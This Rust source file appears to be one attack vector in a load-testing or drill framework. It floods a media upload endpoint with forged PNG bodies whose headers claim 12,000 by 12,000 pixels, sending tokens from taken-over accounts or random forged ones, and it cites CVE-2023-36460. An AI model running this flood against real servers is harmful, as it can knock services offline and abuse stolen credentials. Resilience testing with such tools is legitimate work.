//! `upload-flood`: pictures that are none, large, with tokens of accounts that were taken over
//! and with forged ones

use crate::{
    chance::Chance,
    vectors::{
        Family, Front, Resource, Vector,
        flood::{BROWSER, Visit, flood, with},
    },
};

pub(super) const VECTOR: Vector = Vector {
    name: "upload-flood",
    family: Family::Floods,
    models: "pictures that are none, large, with tokens of accounts that were taken over and \
        with forged ones",
    source: "CVE-2023-36460 and its like: media handling is reached with a body that a \
        stranger chose",
    parameters: "a head of a PNG of 12,000 x 12,000 and 256 KiB of noise; one upload a connection",
    resource: Resource::Processor,
    room: None,
    attack: |front| Box::pin(flood(front, 1, visit)),
};

/// Bytes of one body.
const BODY_BYTES: usize = 256 * 1024;
const BOUNDARY: &str = "drill-7MA4YWxkTrZu0gW";

fn visit(front: &Front, chance: &mut Chance) -> Visit {
    let taken = chance.one(&front.scene.taken).map(|taken| taken.token.clone());
    let token = match taken {
        Some(token) if chance.below(2) == 0 => token,
        _ => chance.word(60),
    };
    let bearer = format!("Bearer {token}");
    let kind = format!("multipart/form-data; boundary={BOUNDARY}");
    let fields = [BROWSER[0], ("Authorization", &*bearer), ("Content-Type", &*kind)];
    let request = with(front, "POST", "/api/v2/media", &fields, &body(chance));
    Visit::at_once(front.bots.one(chance), vec![request])
}

fn body(chance: &mut Chance) -> Vec<u8> {
    let head = format!(
        "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.png\"\r\n\
         Content-Type: image/png\r\n\r\n"
    );
    let mut body = head.into_bytes();
    // The signature and the head of a PNG (W3C PNG, 5.2 and 11.2.2), its check left wrong.
    body.extend_from_slice(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\x2e\xe0\0\0\x2e\xe0\x08\x06\0\0\0");
    while body.len() < BODY_BYTES {
        body.extend_from_slice(&chance.bits().to_be_bytes());
    }
    body.extend_from_slice(format!("\r\n--{BOUNDARY}--\r\n").as_bytes());
    body
}
